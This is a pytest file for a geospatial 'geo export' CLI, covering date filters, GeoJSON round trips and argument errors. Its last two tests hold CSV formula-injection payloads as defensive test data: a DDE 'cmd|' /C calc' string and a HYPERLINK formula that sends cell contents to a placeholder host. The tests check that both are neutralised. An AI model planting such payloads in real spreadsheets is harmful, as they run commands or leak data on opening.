"""`python -m geo export`: filters, round trip through geopandas, and one-line errors with exit code 2."""

from __future__ import annotations

import json
import subprocess
import sys

import geopandas as gpd
import pytest

from geo.__main__ import main
from geo.paths import ROOT


def run(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "geo", *args], cwd=ROOT, capture_output=True, timeout=120)


def test_export_on_a_date_prints_a_feature_collection():
    result = run("export", "territory", "--date", "2015-06-01")
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert data["type"] == "FeatureCollection" and len(data["features"]) > 20
    assert all(f["properties"]["start"] <= "2015-06-01" for f in data["features"])
    assert all(f["properties"]["end"] is None or f["properties"]["end"] > "2015-06-01" for f in data["features"])


def test_round_trip_through_geopandas(fixture_build, tmp_path, capsys):
    out = tmp_path / "plots.geojson"
    code = main(["export", "plots", "--from", "2015-01-01", "--to", "2024-12-31", "--geojson-dir", str(fixture_build),
                 "-o", str(out)])
    assert code == 0
    frame = gpd.read_file(out)
    assert sorted(frame["id"]) == ["2015-paris", "2024-kaufbeuren", "2024-kerman"]
    assert frame.crs.to_epsg() == 4326
    source = gpd.read_file(fixture_build / "plots.geojson")
    assert frame.sort_values("id").geometry.reset_index(drop=True).geom_equals(
        source.sort_values("id").geometry.reset_index(drop=True)).all()


def test_same_filters_same_bytes(fixture_build, tmp_path, capsys):
    args = ["export", "plots", "--from", "2015-01-01", "--to", "2024-12-31", "--outcome", "attack",
            "--geojson-dir", str(fixture_build)]
    main(args + ["-o", str(tmp_path / "a.geojson")])
    main(args + ["-o", str(tmp_path / "b.geojson")])
    assert (tmp_path / "a.geojson").read_bytes() == (tmp_path / "b.geojson").read_bytes()
    assert sorted(f["id"] for f in json.loads((tmp_path / "a.geojson").read_text())["features"]) == [
        "2015-paris", "2024-kerman"]


@pytest.mark.parametrize("args, fragment", [
    (["export", "territory", "--date", "2015-13-01"], "--date"),
    (["export", "territory", "--date", "yesterday"], "YYYY-MM-DD"),
    (["export", "plots", "--from", "2015-01-01"], "--from and --to go together"),
    (["export", "plots", "--from", "2016-01-01", "--to", "2015-01-01"], "before"),
    (["export", "plots", "--date", "2015-01-01", "--from", "2015-01-01", "--to", "2015-02-01"], "either"),
    (["export", "plots", "--outcome", "exploded"], "unknown value"),
    (["export", "plots", "--bbox", "1,2,3"], "bbox"),
    (["export", "rivers"], "invalid choice"),
    (["export"], "required"),
])
def test_bad_arguments_get_one_line_and_exit_2(args, fragment):
    result = run(*args)
    assert result.returncode == 2
    lines = result.stderr.decode().strip().splitlines()
    assert lines[-1].startswith(("python -m geo", "usage")) or len(lines) <= 3
    assert fragment in result.stderr.decode()
    assert result.stdout == b""


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    from geo.formats import safe_cell, write_csv

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "cmd|' /C calc'!A0") == "'" + start + "cmd|' /C calc'!A0"
    assert safe_cell(-3.5) == -3.5 and safe_cell("Mosul") == "Mosul"
    text = write_csv([{"a": '=HYPERLINK("http://x"&A1)', "b": 2}], ["a", "b"]).decode()
    assert text.splitlines()[1].startswith("\"'=HYPERLINK")


def test_uploaded_formula_cells_are_inert_in_the_csv_export():
    from geo.formats import to_csv
    from geo.upload import read_user_layer

    layer = read_user_layer("f.csv", b"name,lat,lon,note\n=cmd,36.3,43.1,@SUM(A1)\n")
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(to_csv("user", layer.frame).decode())))
    assert rows[0]["name"] == "'=cmd"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in rows[0].values())
